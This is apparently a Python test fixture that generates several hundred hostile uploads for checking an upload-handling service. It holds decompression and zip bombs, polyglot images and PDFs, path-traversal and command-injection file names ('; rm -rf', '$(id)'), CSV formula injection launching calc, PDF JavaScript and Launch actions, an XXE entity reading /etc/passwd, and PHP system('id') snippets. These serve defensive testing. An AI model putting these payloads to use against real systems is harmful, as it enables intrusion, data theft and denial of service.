"""Files of people who mean harm: makers times variants, made in memory."""

import random
import struct
import zlib
from collections.abc import Iterator
from itertools import chain, product

from tests.dossier_parts.uploads import HONEST, SCRIPT, Upload, docx, mail, odt, packed, pdf, picture


def huge_png(width: int, height: int) -> bytes:
    """Says that it is enormous, and holds nothing."""
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + _chunk(b"IDAT", zlib.compress(b"\0" * 64)) + _chunk(b"IEND", b"")
    )


def _chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def huge_gif(width: int, height: int) -> bytes:
    return (
        b"GIF89a" + struct.pack("<HH", width, height) + b"\x80\0\0" + b"\0" * 6 + b"," + bytes(9) + b"\x02\x02L\x01\0;"
    )


def bomb(megabytes: int, depth: int = 0) -> bytes:
    inner = b"\0" * (megabytes * 1024 * 1024)
    for _level in range(depth):
        inner = packed({"binnen.docx": inner})
    return docx({"word/media/groot.bmp": inner})


def overlapping(copies: int) -> bytes:
    """A directory that names the same bytes again and again (the bomb without layers)."""
    content = docx()
    start = content.rfind(b"PK\x01\x02")
    end = content.rfind(b"PK\x05\x06")
    entry = content[start:end]
    directory = content[content.find(b"PK\x01\x02") : end] + entry * copies
    count = 2 + copies
    tail = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, count, count, len(directory), content.find(b"PK\x01\x02"), 0)
    return content[: content.find(b"PK\x01\x02")] + directory + tail


def many(entries: int) -> bytes:
    return docx({f"word/{number}.xml": b"<a/>" for number in range(entries)})


def lying_size() -> bytes:
    """Says in the directory that the document is small."""
    content = bytearray(bomb(4))
    at = content.rfind(b"PK\x01\x02")
    content[at + 24 : at + 28] = struct.pack("<I", 100)
    return bytes(content)


def encrypted() -> bytes:
    content = bytearray(docx())
    for mark, offset in ((b"PK\x01\x02", 8), (b"PK\x03\x04", 6)):
        content[content.find(mark) + offset] |= 1
    return bytes(content)


def object_stream(inner: bytes) -> bytes:
    """Objects of a PDF that are packed, where no search in the plain bytes finds them."""
    squeezed = zlib.compress(inner)
    head = b"5 0 obj <</Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d>>\nstream\n" % len(squeezed)
    return pdf().replace(b"trailer", head + squeezed + b"\nendstream endobj\ntrailer")


def nested_mail(depth: int) -> bytes:
    content = mail("Binnenste")
    for _level in range(depth):
        content = mail("Buitenste", attachments=(("bericht.eml", content),))
    return content


def boundaries(count: int) -> bytes:
    content = b"tekst"
    for number in range(count):
        head = b'Content-Type: multipart/mixed; boundary="b%d"\r\n\r\n' % number
        content = head + b"--b%d\r\n" % number + content + b"\r\n--b%d--\r\n" % number
    return b"From: a@b.example\r\nDate: Tue, 03 Mar 2026 10:15:00 +0100\r\n" + content


NAMES = (
    "../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/abs/pad",
    "C:\\autoexec",
    "\x00",
    "a\x00",
    "con",
    "nul",
    "aux",
    "-rf",
    ".",
    "..",
    "...",
    "   ",
    "~",
    "naam\r\nSet-Cookie: a=b",
    "<script>alert(1)</script>",
    "a" * 300,
    "gpj\u202eexe",
    "\ufeff\u200b",
    "; rm -rf",
    "$(id)",
    "`id`",
    "%2e%2e%2f",
    "a/b/c",
    "|pipe",
    "?",
    "*",
    '"',
    "'",
    "😀" * 60,
    "ﬁ",
    "e\u0301",
)
MACRO_TYPES = ("document.macroEnabled.main+xml", "vbaProject", "x")
HUGE = ((60_000, 60_000), (1, 2_000_000), (2**31 - 1, 2**31 - 1), (0, 0))
PROGRAM_ENDINGS = (
    "exe",
    "js",
    "html",
    "htm",
    "svg",
    "svgz",
    "php",
    "phtml",
    "jsp",
    "asp",
    "hta",
    "bat",
    "cmd",
    "ps1",
    "sh",
    "vbs",
    "jar",
    "lnk",
    "scr",
    "msi",
    "dll",
    "xml",
    "xhtml",
    "mht",
    "swf",
    "iso",
    "docm",
    "xlsm",
    "pptm",
    "dotm",
    "xls",
    "doc",
    "rtf",
    "zip",
    "7z",
    "rar",
    "gz",
    "tar",
    "py",
    "com",
    "url",
    "chm",
    "reg",
    "",
)
PROGRAM_STARTS = (
    b"MZ\x90\0",
    b"\x7fELF\x02",
    b"#!/bin/sh\nid",
    b"Rar!\x1a\x07",
    b"7z\xbc\xaf\x27\x1c",
    b"\x1f\x8b\x08",
    b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
    b"{\\rtf1",
    b"%!PS-Adobe",
    b"BM6\0",
    b"II*\0",
    b"MM\0*",
    b"BZh9",
    b"\xfd7zXZ\0",
    b"\xca\xfe\xba\xbe",
    b"\0asm",
    b"wOFF",
    b"SQLite format 3\0",
)
MARKUP = (
    b"<html>",
    b"<!DOCTYPE html>",
    b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    b"<?xml version='1.0'?>",
    b"  \n<script>",
    b"<?php system('id'); ?>",
    b"\xef\xbb\xbf<html>",
    b"<!-- --><body onload=x>",
    b"tekst <iframe src=x>",
    b"<%= 7*7 %>",
    "<script>".encode("utf-16"),
    b"+ADw-script+AD4-\0",
)
SUMS = (
    b"=1+1",
    b"=cmd|'/C calc'!A0",
    b"+cmd|'/C calc'!A0",
    b"-2+3+cmd|' /C calc'!A0",
    b"@SUM(1+1)*cmd|' /C calc'!A0",
    b'"=HYPERLINK(""http://x"")"',
    b"naam;=1+1",
    b"a,b\n1,=WEBSERVICE(A1)",
    b"a\t=1",
    b" =1+1",
    b"'=1+1",
    b"=IMPORTXML(1)",
)
ACTIVE_NAMES = (
    b"/OpenAction <</S /JavaScript /JS (app.alert(1))>>",
    b"/AA <</O <</S /J#61vaScript /JS (x)>>>>",
    b"/OpenAction <</S /Launch /F (calc.exe)>>",
    b"/Names <</EmbeddedFiles 9 0 R>>",
    b"/AcroForm <</XFA 9 0 R>>",
    b"/A <</S /SubmitForm /F (http://x)>>",
    b"/A <</S /ImportData>>",
    b"/RichMedia 9 0 R",
    b"/Encrypt 9 0 R",
    b"/S/JavaScript/JS(x)",
)
MACRO_PARTS = (
    "word/vbaProject.bin",
    "xl/vbaProject.bin",
    "word/vbaData.xml",
    "xl/macrosheets/sheet1.xml",
    "word/activeX/activeX1.xml",
    "word/embeddings/oleObject1.bin",
    "word/embeddings/a.exe",
    "customUI/customUI.xml",
    "a.js",
    "b.vbs",
    "c.lnk",
    "Basic/Standard/script.xml",
    "Scripts/python/x.py",
    "word/x.html",
    "xl/dialogsheets/s.xml",
)
BAD_ENTRIES = ("../uit.xml", "/weg.xml", "a\\..\\b.xml", "C:/a.xml", "word/" + "a" * 300 + ".xml")
OUTSIDE = ("attachedTemplate", "oleObject", "frame", "image", "subDocument", "aFChunk")
BAD_XML = (
    b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>',
    b"<!ENTITY % x SYSTEM 'file:///etc/passwd'>",
    "<a/>".encode("utf-16"),
    b'<a href="javascript:alert(1)"/>',
    b'<a xlink:href="vnd.sun.star.script:x"/>',
)
ENDINGS = ("jpg", "png", "gif", "webp", "avif", "pdf", "docx", "xlsx", "odt", "txt", "csv", "eml", "heic")


def relations(kind: str) -> bytes:
    return (
        f'<Relationships><Relationship Id="r" Type="http://x/{kind}" Target="http://kwaad.example/x" '
        f'TargetMode="External"/></Relationships>'
    ).encode()


def polyglots() -> Iterator[Upload]:
    """One file that is two things."""
    tails = (SCRIPT, docx(), b"PK\x05\x06" + bytes(18), b"MZ" + bytes(64), b"<?php system('id'); ?>", bytes(2_000))
    for tail in tails:
        for kind, name in (("JPEG", "a.jpg"), ("PNG", "a.png"), ("GIF", "a.gif"), ("WEBP", "a.webp")):
            yield Upload(name, picture(kind) + tail)
        yield Upload("a.pdf", pdf(trailer=tail))
        yield Upload("a.docx", docx() + tail)
        yield Upload("a.odt", odt() + tail)
        yield Upload("a.docx", tail + docx())
        yield Upload("a.pdf", tail + pdf())
    yield Upload("a.jpg", picture(comment=SCRIPT))
    yield Upload("a.gif", b"GIF89a/*" + SCRIPT + b"*/=1;alert(1)")
    yield Upload("a.jpg", b"\xff\xd8\xff\xe0" + SCRIPT)


def broken(seed: int) -> Iterator[Upload]:
    """Honest files with bytes turned over or cut off, always the same ones."""
    chance = random.Random(seed)
    for upload in HONEST:
        content = bytearray(upload.content)
        for _turn in range(12):
            content[chance.randrange(len(content))] = chance.randrange(256)
        yield Upload(upload.name, bytes(content))
        yield Upload(upload.name, upload.content[: chance.randrange(1, len(upload.content))])


def odd_names() -> Iterator[Upload]:
    for name in NAMES:
        yield from (Upload(f"{name}.jpg", picture()), Upload(f"{name}.txt", b"dag"), Upload(name, pdf()))


def wrong_kinds() -> Iterator[Upload]:
    """Programs, pages and nothing, under every name."""
    for ending in PROGRAM_ENDINGS:
        yield from (Upload(f"a.{ending}", SCRIPT), Upload(f"a.jpg.{ending}", picture()))
    for ending, content in product(ENDINGS, (*PROGRAM_STARTS[:6], b"", MARKUP[2])):
        yield Upload(f"a.{ending}", content)
    for ending, start in product(("txt", "docx"), PROGRAM_STARTS):
        yield Upload(f"a.{ending}", start + bytes(40))


def texts() -> Iterator[Upload]:
    for ending, markup in product(("txt", "csv", "eml"), MARKUP):
        yield Upload(f"a.{ending}", markup)
    yield from (Upload("a.csv", content) for content in SUMS)
    yield Upload("a.txt", b"a\0b")


def pdfs() -> Iterator[Upload]:
    for name in ACTIVE_NAMES:
        yield from (Upload("a.pdf", pdf(name)), Upload("a.pdf", object_stream(b"1 0 <<" + name + b">>")))


def documents() -> Iterator[Upload]:
    """Office documents with macros, programs, outside links and hostile XML."""
    for part in MACRO_PARTS:
        yield from (Upload("a.docx", docx({part: b"x"})), Upload("a.odt", odt({part: b"x"})))
    parts = dict.fromkeys(BAD_ENTRIES, b"<a/>")
    yield from (Upload("a.docx", docx({name: content})) for name, content in parts.items())
    yield from (Upload("a.docx", docx({"word/_rels/document.xml.rels": relations(kind)})) for kind in OUTSIDE)
    yield from (Upload("a.docx", docx({"word/x.xml": content})) for content in BAD_XML)
    yield from (Upload("a.docx", docx(main=f"application/vnd.ms-word.{name}")) for name in MACRO_TYPES)
    yield from (Upload("a.odt", odt(mimetype=kind)) for kind in (b"text/html", b"application/zip", b"\xff" * 300, b""))
    yield Upload("a.odt", odt({"META-INF/manifest.xml": b"<encryption-data/>"}))
    for content in (packed({"a.txt": b"x"}), packed({"[Content_Types].xml": b"<a"}), encrypted(), lying_size()):
        yield Upload("a.docx", content)
    yield from (
        Upload("a.zip", packed({"a.txt": b"x"})),
        Upload("a.docx", docx({"w/a.docx": docx({"b.docx": docx()})})),
    )


def bombs() -> Iterator[Upload]:
    """Small to send, enormous to open."""
    yield from (Upload("a.png", huge_png(*size)) for size in HUGE)
    yield from (Upload("a.gif", huge_gif(*size)) for size in ((65_535, 65_535), (0, 0)))
    yield from (Upload("a.docx", content) for content in (bomb(61), bomb(8), bomb(1, 2), overlapping(50), many(3_100)))


def mails() -> Iterator[Upload]:
    yield from (Upload("a.eml", content) for content in (nested_mail(3), boundaries(500)))
    yield Upload("a.eml", b"From: a\nTo: b\n" + b"X: y\n" * 90_000 + b"\ndag")
    yield Upload("a.eml", mail(attachments=(("factuur.pdf.exe", b"MZ"),)))
    yield Upload("a.eml", mail(attachments=(("macro.docx", docx({"word/vbaProject.bin": b"x"})),)))


def hostile() -> Iterator[Upload]:
    """All of them; more than five hundred, the same ones each time."""
    damaged = chain.from_iterable(broken(seed) for seed in range(4))
    yield from chain(polyglots(), damaged, odd_names(), wrong_kinds(), texts(), pdfs(), documents(), bombs(), mails())
